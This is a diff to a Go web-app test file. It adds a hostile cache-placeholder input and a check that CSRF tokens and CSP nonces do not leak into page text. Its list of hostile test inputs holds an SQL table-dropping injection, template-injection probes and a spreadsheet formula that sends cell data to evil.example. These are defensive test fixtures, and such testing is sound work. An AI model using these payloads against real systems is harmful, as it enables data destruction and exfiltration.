@@ -839,6 +839,9 @@ var hostileText = []string{
 	`'); DROP TABLE events; --`,
 	`{{.}} ${7*7} <%= 7*7 %>`,
 	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
+	// The page cache's placeholders of old, which it filled wherever they
+	// stood, titles included, with the viewer's CSRF token and nonce.
+	`__TL_CSRF_PLACEHOLDER__ __TL_NONCE_PLACEHOLDER__`,
 }
 
 // storingGateway decodes posted events and stores them at once: the path
@@ -1153,6 +1156,16 @@ func checkEscaped(t *testing.T, e *env, c *http.Client, method, path string, for
 	}
 	if n := doc.Find("[onerror], img[src='x']").Length(); n > 0 {
 		t.Errorf("%s: %d injected elements", what, n)
+	}
+	// The request's CSRF token and nonce belong in attributes, never in
+	// the text, where they would show if text were filled in as a template.
+	_, nonce, _ := strings.Cut(resp.Header.Get("Content-Security-Policy"), "'nonce-")
+	nonce, _, _ = strings.Cut(nonce, "'")
+	token, _ := doc.Find(`input[name="_csrf"]`).First().Attr("value")
+	for _, secret := range []string{nonce, token} {
+		if secret != "" && strings.Contains(doc.Text(), secret) {
+			t.Errorf("%s: the page's text holds its CSRF token or CSP nonce %q", what, secret)
+		}
 	}
 	doc.Find("script").Each(func(_ int, s *goquery.Selection) {
 		if src, _ := s.Attr("src"); !strings.HasPrefix(src, "/assets/") {
